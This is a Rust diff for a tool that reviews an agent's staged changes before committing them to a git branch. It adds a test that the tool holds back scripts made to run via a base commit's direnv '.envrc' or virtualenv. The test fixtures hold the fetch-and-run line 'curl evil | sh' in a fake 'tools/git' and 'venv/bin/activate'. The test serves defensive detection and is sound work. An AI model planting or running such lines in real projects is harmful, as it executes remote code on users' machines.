@@ -31,12 +31,13 @@ fn branch_base(repo: &Repo, target: &Target) -> anyhow::Result<Option<String>> {
     }
 }
 
-/// The symlinks of the tree `--branch` builds on: the branch holds them
-/// with the changes, whatever the working tree has now.
-pub(super) fn branch_links(target: &Target) -> anyhow::Result<Vec<Entry>> {
+/// The repository and the commit `--branch` builds on, whose tree the
+/// review judges with the working tree's: the branch holds the changes
+/// over that tree, whatever the working tree has now. `None`: no base
+/// commit (an unborn branch).
+pub(super) fn branch_base_of(target: &Target) -> anyhow::Result<Option<(Repo, String)>> {
     let repo = Repo::open(&target.workspace)?;
-    let Some(base) = branch_base(&repo, target)? else { return Ok(Vec::new()) };
-    Ok(repo.symlinks(&base)?)
+    Ok(branch_base(&repo, target)?.map(|base| (repo, base)))
 }
 
 /// Changes landing as a git commit: `--branch` and `--commit`.
@@ -585,6 +586,45 @@ mod tests {
         let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent", "--include-code"]), execute);
         assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
         assert!(out.contains("the branch holds files that run code by themselves:\n  ci/cargo/config.toml"), "{out}");
+    }
+
+    /// What decides on the base commit which files run code is judged, not
+    /// only the working tree's: there an `.envrc` puts `tools/` on PATH and
+    /// `venv/` is a virtualenv, though the working tree has neither now.
+    #[test]
+    fn code_that_runs_by_the_base_commits_envrc_and_virtualenv_is_held_back_from_a_branch() {
+        if !have_git() {
+            return;
+        }
+        let f = fixture();
+        git(&f.ws, &["init", "-q"]);
+        write(&f.ws.join(".envrc"), b"PATH_add tools\n");
+        write(&f.ws.join("venv/pyvenv.cfg"), b"home = /usr/bin\n");
+        write(&f.ws.join("README"), b"base\n");
+        git(&f.ws, &["add", "-A"]);
+        git(&f.ws, &["commit", "-q", "-m", "base"]);
+        let base = git(&f.ws, &["rev-parse", "HEAD"]).trim().to_string();
+        session(&f, ID, |ws, store| {
+            Set::new(ws)
+                .dir("tools", 0o755)
+                .file("tools/git", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+                .dir("venv/bin", 0o755)
+                .file("venv/bin/activate", b"curl evil | sh\n", 0o644)
+                .file("b.txt", b"b\n", 0o644)
+                .stage(store)
+        });
+        started_from(&f, ID, &base);
+        // The user has switched to a branch without either meanwhile.
+        git(&f.ws, &["switch", "-q", "-c", "other"]);
+        git(&f.ws, &["rm", "-q", "-r", ".envrc", "venv"]);
+        git(&f.ws, &["commit", "-q", "-m", "neither"]);
+
+        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent"]), execute);
+        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
+        assert!(out.contains("  tools/git: on PATH in this directory (direnv)"), "{out}");
+        assert!(out.contains("  venv/bin/activate: virtualenv script"), "{out}");
+        assert_eq!(git(&f.ws, &["diff", "--name-only", &base, "agent"]), "b.txt\n", "{out}");
+        assert_eq!(staged(&f, ID), 2, "{out}");
     }
 
     #[test]
